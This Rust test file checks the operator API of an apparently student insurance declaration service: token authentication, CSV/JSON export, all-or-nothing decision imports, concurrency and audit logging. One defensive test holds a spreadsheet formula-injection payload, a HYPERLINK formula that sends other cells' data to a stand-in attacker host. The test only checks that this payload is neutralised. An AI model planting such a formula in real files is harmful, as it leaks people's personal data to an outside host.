//! The fund's operators, over HTTP on both engines: a token or nothing,
//! export (JSON, CSV, marking), import (JSON, spreadsheet CSV), idempotent,
//! all or nothing.

use crate::declarations::{form, key};
use crate::helpers::{Engine, OPERATOR_TOKEN, TestApp, with_operator};
use amoe_domain::messages::operator::{ExportResponse, ImportReport};
use amoe_domain::messages::{ErrorCode, Receipt, StatusResponse};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

crate::on_both_engines!(
    without_the_right_token_nothing_is_said,
    export_lists_pending_declarations_and_can_mark_them,
    export_as_csv_for_a_spreadsheet,
    decisions_import_from_json_and_show_in_the_status,
    decisions_import_from_a_spreadsheet_csv,
    importing_the_same_file_twice_changes_nothing,
    a_file_with_a_bad_row_is_rejected_whole,
    a_dry_run_reports_without_applying,
    one_bad_row_among_100_rejects_the_file_and_is_named,
    a_spreadsheet_never_runs_what_students_typed,
    an_export_beside_an_import_never_undoes_a_decision,
    two_conflicting_imports_at_once_decide_each_declaration_once,
    imports_of_crossed_mailboxes_at_once_both_apply,
    exports_imports_and_decisions_are_in_the_audit_log,
);

async fn app(engine: Engine) -> TestApp {
    TestApp::spawn_configured(engine, |config| {
        with_operator(config);
    })
    .await
}

async fn declare(app: &TestApp, n: u32) -> Receipt {
    let response = app.declare(&key(), &form(n)).await;
    assert_eq!(response.status(), 201);
    response.json().await.unwrap()
}

/// Posts a decision file of `content_type`; answers the status code.
async fn post_file(app: &TestApp, content_type: &str, body: impl Into<reqwest::Body>) -> u16 {
    app.operator("decisions")
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

async fn export(app: &TestApp, request: Value) -> ExportResponse {
    let response = app.operator("export").json(&request).send().await.unwrap();
    assert_eq!(response.status(), 200);
    response.json().await.unwrap()
}

async fn import_json(app: &TestApp, rows: Value, dry_run: bool) -> reqwest::Response {
    let path = if dry_run {
        "decisions?dry_run=true"
    } else {
        "decisions"
    };
    app.operator(path).json(&rows).send().await.unwrap()
}

fn covered(reference: &str) -> Value {
    json!({"reference": reference, "decision": "covered", "decision_date": "2026-12-01"})
}

async fn without_the_right_token_nothing_is_said(engine: Engine) {
    let app = app(engine).await;
    for auth in [
        None,
        Some("Bearer wrong"),
        Some("Basic b3A6b3A="),
        Some("Bearer "),
    ] {
        let mut request = app
            .client
            .post(format!("{}/api/operator/export", app.url))
            .json(&json!({}));
        if let Some(auth) = auth {
            request = request.header("authorization", auth);
        }
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), 401, "{auth:?}");
        assert_eq!(response.headers()["www-authenticate"], "Bearer");
        let body: Value = response.json().await.unwrap();
        assert_eq!(
            body,
            json!({"code": "unauthorized", "message": "unauthorized"})
        );
    }
    // With no token configured, even a token is refused.
    let closed = TestApp::spawn(engine).await;
    let response = closed
        .operator("export")
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
}

async fn export_lists_pending_declarations_and_can_mark_them(engine: Engine) {
    let app = app(engine).await;
    let first = declare(&app, 1).await;
    declare(&app, 2).await;
    let all = export(&app, json!({})).await;
    assert_eq!(all.declarations.len(), 2);
    assert_eq!(all.marked, 0);
    assert_eq!(all.declarations[0].cin, "AB100001");
    assert_eq!(all.declarations[0].status.as_str(), "received");

    let filtered = export(&app, json!({"university": "uca"})).await;
    assert!(filtered.declarations.is_empty());
    let bad = app
        .operator("export")
        .json(&json!({"university": "mit", "since": "1/9/2026", "format": "xls"}))
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 422);

    let marked = export(&app, json!({"mark": true})).await;
    assert_eq!(marked.marked, 2);
    assert!(
        marked
            .declarations
            .iter()
            .all(|d| d.status.as_str() == "under_verification")
    );
    assert!(
        export(&app, json!({"status": "received"}))
            .await
            .declarations
            .is_empty()
    );
    assert_eq!(export(&app, json!({"mark": true})).await.marked, 0);
    // The student sees it in the timeline.
    let status: StatusResponse = app.status(&lookup(1)).await.json().await.unwrap();
    let events: Vec<_> = status.declarations[0]
        .events
        .iter()
        .map(|e| e.status.as_str())
        .collect();
    assert_eq!(events, ["received", "under_verification"]);
    assert_eq!(status.declarations[0].reference, first.reference);
}

fn lookup(n: u32) -> Value {
    let form = form(n);
    json!({"cin": form["cin"], "massar": form["massar"], "birth_day": form["birth_day"],
           "birth_month": form["birth_month"], "birth_year": form["birth_year"]})
}

async fn export_as_csv_for_a_spreadsheet(engine: Engine) {
    let app = app(engine).await;
    let mut arabic = form(3);
    arabic["last_name"] = json!("العمراني");
    arabic["establishment"] = json!("Faculté des sciences, \"Agdal\"");
    assert_eq!(app.declare(&key(), &arabic).await.status(), 201);
    let response = app
        .operator("export")
        .json(&json!({"format": "csv"}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(
        response.headers()["content-type"],
        "text/csv; charset=utf-8"
    );
    let bytes = response.bytes().await.unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a BOM for spreadsheets");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut lines = text.lines();
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("reference,academic_year,cin,massar")
    );
    let row = lines.next().unwrap();
    assert!(row.contains("العمراني"), "{row}");
    assert!(
        row.contains("\"Faculté des sciences, \"\"Agdal\"\"\""),
        "{row}"
    );
}

async fn decisions_import_from_json_and_show_in_the_status(engine: Engine) {
    let app = app(engine).await;
    let a = declare(&app, 4).await.reference.to_string();
    let b = declare(&app, 5).await.reference.to_string();
    let rows = json!([
        covered(&a),
        {"reference": b, "decision": "refused", "reason_code": "covered_elsewhere", "reason_text": "cnss", "decision_date": "2026-12-02"},
    ]);
    let response = import_json(&app, rows, false).await;
    assert_eq!(response.status(), 200);
    let report: ImportReport = response.json().await.unwrap();
    assert_eq!(
        (
            report.rows,
            report.applied,
            report.unchanged,
            report.dry_run
        ),
        (2, 2, 0, false)
    );
    let status: StatusResponse = app.status(&lookup(4)).await.json().await.unwrap();
    let covered = &status.declarations[0];
    assert_eq!(covered.status.as_str(), "covered");
    assert_eq!(covered.decided_on.as_deref(), Some("2026-12-01"));
    assert_eq!(
        (covered.first_name.as_str(), covered.last_name.as_str()),
        ("Salma", "El Amrani")
    );
    assert_eq!(covered.refusal_reason, None);
    let status: StatusResponse = app.status(&lookup(5)).await.json().await.unwrap();
    let refused = &status.declarations[0];
    let events: Vec<_> = refused.events.iter().map(|e| e.status.as_str()).collect();
    assert_eq!(events, ["received", "refused"]);
    assert_eq!(
        refused.refusal_reason,
        Some(amoe_domain::declaration::RefusalReason::CoveredElsewhere {
            scheme: Some(amoe_domain::declaration::Scheme::Cnss)
        })
    );
}

async fn decisions_import_from_a_spreadsheet_csv(engine: Engine) {
    let app = app(engine).await;
    let a = declare(&app, 6).await.reference.to_string();
    let b = declare(&app, 7).await.reference.to_string();
    // As a French-locale spreadsheet saves it: BOM, ';', quotes, CRLF, Arabic.
    let csv = format!(
        "\u{FEFF}reference;decision;reason_code;reason_text;decision_date\r\n\
         {a};covered;;;2026-12-01\r\n\
         \"{b}\";refused;other;\"ملف ناقص; يرجى التواصل مع الكلية\";2026-12-03\r\n"
    );
    let response = app
        .operator("decisions")
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200, "{}", response.text().await.unwrap());
    let status: StatusResponse = app.status(&lookup(7)).await.json().await.unwrap();
    assert_eq!(status.declarations[0].status.as_str(), "refused");
    // The same file with ',' works too.
    let c = declare(&app, 8).await.reference.to_string();
    let commas = format!(
        "reference,decision,reason_code,reason_text,decision_date\n{c},covered,,,2026-12-01\n"
    );
    assert_eq!(post_file(&app, "text/csv", commas).await, 200);
}

async fn importing_the_same_file_twice_changes_nothing(engine: Engine) {
    let app = app(engine).await;
    let a = declare(&app, 9).await.reference.to_string();
    let rows = json!([covered(&a)]);
    let first: ImportReport = import_json(&app, rows.clone(), false)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!((first.applied, first.unchanged), (1, 0));
    let second: ImportReport = import_json(&app, rows, false).await.json().await.unwrap();
    assert_eq!((second.applied, second.unchanged), (0, 1));
    let status: StatusResponse = app.status(&lookup(9)).await.json().await.unwrap();
    assert_eq!(
        status.declarations[0].events.len(),
        2,
        "no second 'covered' event"
    );
    // A different decision on a decided declaration is refused.
    let changed = json!([{"reference": a, "decision": "refused", "reason_code": "over_age", "decision_date": "2026-12-05"}]);
    let response = import_json(&app, changed, false).await;
    assert_eq!(response.status(), 422);
    let body: Value = response.json().await.unwrap();
    assert_eq!(
        body["rows"],
        json!([{"row": 1, "column": "decision", "code": "not_pending"}])
    );
}

async fn a_file_with_a_bad_row_is_rejected_whole(engine: Engine) {
    let app = app(engine).await;
    let a = declare(&app, 10).await.reference.to_string();
    let unknown = amoe_domain::declaration::Reference::from_random(7).to_string();
    let rows = json!([
        covered(&a),
        {"reference": unknown, "decision": "covered", "decision_date": "2026-12-01"},
        {"reference": "AMOE-XXXX", "decision": "maybe", "decision_date": "tomorrow"},
    ]);
    let response = import_json(&app, rows, false).await;
    assert_eq!(response.status(), 422);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["code"], json!(ErrorCode::InvalidFile.as_str()));
    assert_eq!(
        body["rows"],
        json!([
            {"row": 3, "column": "reference", "code": "reference_wrong_length"},
            {"row": 3, "column": "decision", "code": "decision_unknown"},
            {"row": 3, "column": "decision_date", "code": "decision_date_invalid"},
        ])
    );
    // Fix row 3; row 2 is an unknown reference: still nothing applied.
    let rows = json!([covered(&a), {"reference": unknown, "decision": "covered", "decision_date": "2026-12-01"}]);
    let body: Value = import_json(&app, rows, false).await.json().await.unwrap();
    assert_eq!(
        body["rows"],
        json!([{"row": 2, "column": "reference", "code": "unknown_reference"}])
    );
    let status: StatusResponse = app.status(&lookup(10)).await.json().await.unwrap();
    assert_eq!(status.declarations[0].status.as_str(), "received");
    // Malformed files are refused too.
    assert_eq!(post_file(&app, "text/csv", "ref;dec\nx;y\n").await, 422);
    assert_eq!(post_file(&app, "application/json", "{").await, 400);
    assert_eq!(post_file(&app, "application/pdf", "x").await, 415);
    let huge = "x".repeat(3 * 1024 * 1024);
    assert_eq!(post_file(&app, "text/csv", huge).await, 413);
}

async fn one_bad_row_among_100_rejects_the_file_and_is_named(engine: Engine) {
    let app = app(engine).await;
    let mut csv =
        String::from("\u{FEFF}reference;decision;reason_code;reason_text;decision_date\r\n");
    for n in 0..100 {
        let reference = declare(&app, 500 + n).await.reference.to_string();
        let date = if n == 57 { "2026-13-01" } else { "2026-12-01" };
        csv.push_str(&format!("{reference};covered;;;{date}\r\n"));
    }
    let response = app
        .operator("decisions")
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 422);
    let body: Value = response.json().await.unwrap();
    assert_eq!(
        body["rows"],
        json!([{"row": 58, "column": "decision_date", "code": "decision_date_invalid"}])
    );
    let exported = export(&app, json!({})).await;
    assert_eq!(exported.declarations.len(), 100);
    assert!(
        exported
            .declarations
            .iter()
            .all(|d| d.status.as_str() == "received"),
        "nothing applied"
    );
}

async fn a_dry_run_reports_without_applying(engine: Engine) {
    let app = app(engine).await;
    let a = declare(&app, 11).await.reference.to_string();
    let report: ImportReport = import_json(&app, json!([covered(&a)]), true)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!((report.applied, report.dry_run), (1, true));
    let status: StatusResponse = app.status(&lookup(11)).await.json().await.unwrap();
    assert_eq!(status.declarations[0].status.as_str(), "received");
}

async fn a_spreadsheet_never_runs_what_students_typed(engine: Engine) {
    let app = app(engine).await;
    let link = r#"=HYPERLINK("https://evil.example/?"&C2&D2,"voir")"#;
    let mut typed = form(40);
    typed["establishment"] = json!(link);
    typed["email"] = json!("+sum@example.ma");
    assert_eq!(app.declare(&key(), &typed).await.status(), 201);
    let json = export(&app, json!({})).await;
    let response = app
        .operator("export")
        .json(&json!({"format": "csv"}))
        .send()
        .await
        .unwrap();
    let text = response.text().await.unwrap();
    let body = text.trim_start_matches('\u{FEFF}');
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    // What a spreadsheet opens: text, not a formula…
    assert_eq!(&rows[0][column("establishment")], format!("'{link}"));
    assert_eq!(&rows[0][column("email")], "'+sum@example.ma");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    // …and what reads back is what was stored.
    let read = |name: &str| {
        amoe_domain::messages::operator::read_spreadsheet_cell(&rows[0][column(name)]).to_owned()
    };
    assert_eq!(
        read("establishment"),
        json.declarations[0].establishment.clone().unwrap()
    );
    assert_eq!(read("email"), json.declarations[0].email);
    // A decision file saved by a spreadsheet with a cell marked as text.
    let reference = json.declarations[0].reference.clone();
    let file = format!(
        "reference,decision,reason_code,reason_text,decision_date\n\
         {reference},refused,other,'=not a formula,2026-12-01\n"
    );
    assert_eq!(post_file(&app, "text/csv", file).await, 200);
    let status: StatusResponse = app.status(&lookup(40)).await.json().await.unwrap();
    assert_eq!(
        status.declarations[0].refusal_reason,
        Some(amoe_domain::declaration::RefusalReason::Other {
            text: "=not a formula".into()
        })
    );
}

/// How many declarations are in `status`, and how many mails of `kind`.
async fn tally(app: &TestApp, status: &str, kind: &str) -> (i64, i64) {
    use sqlx::Row;
    let db = app.database().await;
    let declarations: i64 = sqlx::query("SELECT COUNT(*) AS n FROM declarations WHERE status = $1")
        .bind(status)
        .fetch_one(&db)
        .await
        .unwrap()
        .get("n");
    let mails: i64 = sqlx::query("SELECT COUNT(*) AS n FROM outbox WHERE id LIKE $1")
        .bind(format!("%.{kind}"))
        .fetch_one(&db)
        .await
        .unwrap()
        .get("n");
    (declarations, mails)
}

async fn an_export_beside_an_import_never_undoes_a_decision(engine: Engine) {
    let app = std::sync::Arc::new(app(engine).await);
    for round in 0..6u32 {
        let mut rows = Vec::new();
        for n in 0..40 {
            rows.push(covered(
                &declare(&app, 1_000 + round * 40 + n)
                    .await
                    .reference
                    .to_string(),
            ));
        }
        let exporter = {
            let app = app.clone();
            tokio::spawn(async move { export(&app, json!({"mark": true})).await })
        };
        let importer = {
            let app = app.clone();
            let rows = json!(rows);
            tokio::spawn(async move { import_json(&app, rows, false).await.status().as_u16() })
        };
        exporter.await.unwrap();
        assert_eq!(importer.await.unwrap(), 200, "round {round}");
    }
    assert_eq!(tally(&app, "covered", "covered").await, (240, 240));
    assert_eq!(tally(&app, "under_verification", "covered").await.0, 0);
}

async fn two_conflicting_imports_at_once_decide_each_declaration_once(engine: Engine) {
    use sqlx::Row;
    let app = std::sync::Arc::new(app(engine).await);
    let refused = |reference: &str| {
        json!({
            "reference": reference, "decision": "refused", "reason_code": "not_enrolled",
            "decision_date": "2026-12-02",
        })
    };
    for round in 0..3u32 {
        // The fund's two files share one declaration: first in one file,
        // last in the other, each with many of its own.
        let base = 3_000 + round * 1_000;
        let shared = declare(&app, base).await.reference.to_string();
        let mut first = vec![covered(&shared)];
        let mut last = Vec::new();
        for n in 1..=150 {
            first.push(covered(
                &declare(&app, base + n).await.reference.to_string(),
            ));
        }
        for n in 151..=210 {
            last.push(refused(
                &declare(&app, base + n).await.reference.to_string(),
            ));
        }
        last.push(refused(&shared));
        let send = |rows: Vec<Value>| {
            let app = app.clone();
            tokio::spawn(async move {
                import_json(&app, json!(rows), false)
                    .await
                    .status()
                    .as_u16()
            })
        };
        let (a, b) = (send(first), send(last));
        let answers = [a.await.unwrap(), b.await.unwrap()];
        // The shared declaration is decided once, told once.
        let db = app.database().await;
        let events: i64 = sqlx::query(
            "SELECT COUNT(*) AS n FROM declaration_events WHERE reference = $1 \
             AND status IN ('covered', 'refused')",
        )
        .bind(&shared)
        .fetch_one(&db)
        .await
        .unwrap()
        .get("n");
        let mails: i64 = sqlx::query("SELECT COUNT(*) AS n FROM outbox WHERE id IN ($1, $2)")
            .bind(format!("{shared}.covered"))
            .bind(format!("{shared}.refused"))
            .fetch_one(&db)
            .await
            .unwrap()
            .get("n");
        assert_eq!(
            (events, mails),
            (1, 1),
            "round {round}: answers {answers:?}"
        );
        // Whichever came second was refused whole.
        assert!(
            answers.contains(&200) && answers.contains(&422),
            "{answers:?}"
        );
    }
}

async fn imports_of_crossed_mailboxes_at_once_both_apply(engine: Engine) {
    let app = std::sync::Arc::new(
        TestApp::spawn_configured(engine, |config| {
            with_operator(config);
            config.mail.poll = None;
            let many = amoe_api::db::rate_limits::Limit::per(1_000, 86_400);
            config.limits.declarations_per_email = many;
            config.limits.mails_per_recipient = many;
        })
        .await,
    );
    for round in 0..3u32 {
        // Two families' mailboxes, their declarations interleaved: each
        // file's rows, in reference order, reach both mailboxes in turn.
        let mut references = Vec::new();
        for n in 0..60 {
            let mut f = form(5_000 + round * 100 + n);
            f["email"] = json!(format!("family{}@example.ma", n % 2));
            let receipt: Receipt = app.declare(&key(), &f).await.json().await.unwrap();
            references.push(receipt.reference.to_string());
        }
        references.sort();
        let halves: [Vec<Value>; 2] = [0, 1].map(|half| {
            references
                .iter()
                .skip(half)
                .step_by(2)
                .map(|reference| covered(reference))
                .collect()
        });
        let [first, second] = halves.map(|rows| {
            let app = app.clone();
            tokio::spawn(async move {
                import_json(&app, json!(rows), false)
                    .await
                    .status()
                    .as_u16()
            })
        });
        let answers = [first.await.unwrap(), second.await.unwrap()];
        assert_eq!(answers, [200, 200], "round {round}");
    }
    assert_eq!(tally(&app, "covered", "covered").await, (180, 180));
}

async fn exports_imports_and_decisions_are_in_the_audit_log(engine: Engine) {
    use amoe_domain::messages::operator::AuditResponse;
    let app = app(engine).await;
    let a = declare(&app, 7_000).await.reference.to_string();
    let b = declare(&app, 7_001).await.reference.to_string();
    export(&app, json!({"mark": true})).await;
    let rows = json!([covered(&a), {"reference": b, "decision": "refused",
        "reason_code": "not_enrolled", "decision_date": "2026-12-02"}]);
    assert_eq!(import_json(&app, rows.clone(), true).await.status(), 200);
    assert_eq!(import_json(&app, rows, false).await.status(), 200);
    let response = app.operator("audit").send().await.unwrap();
    assert_eq!(response.status(), 405, "the log is read with GET");
    let log: AuditResponse = app.audit().await;
    let mut actions: Vec<&str> = log.entries.iter().map(|e| e.action.as_str()).collect();
    actions.sort();
    // The dry run changed nothing, and is not there.
    assert_eq!(actions, ["decision", "decision", "export", "import"]);
    let actor = format!("{:x}", Sha256::digest(OPERATOR_TOKEN.as_bytes()))[..12].to_owned();
    assert!(
        log.entries.iter().all(|e| e.actor == actor),
        "{:?}",
        log.entries
    );
    let export_entry = log.entries.iter().find(|e| e.action == "export").unwrap();
    assert_eq!(export_entry.detail["marked"], 2);
    // Who exported, and what: the pending declarations, no filter.
    assert_eq!(export_entry.detail["by"], "operator");
    assert_eq!(export_entry.detail["criteria"]["pending"], true);
    assert_eq!(export_entry.detail["criteria"]["university"], Value::Null);
    let refused = log
        .entries
        .iter()
        .find(|e| e.detail["decision"] == "refused")
        .unwrap();
    assert_eq!(refused.detail["reference"], b.as_str());
    assert_eq!(refused.detail["reason"], "not_enrolled");
    // Nothing personal in it.
    let text = serde_json::to_string(&log).unwrap();
    assert!(
        !text.contains("AB107000") && !text.contains("Salma") && !text.contains(OPERATOR_TOKEN)
    );
    // Without a token, nothing.
    let anonymous = app
        .client
        .get(format!("{}/api/operator/audit", app.url))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 401);
}
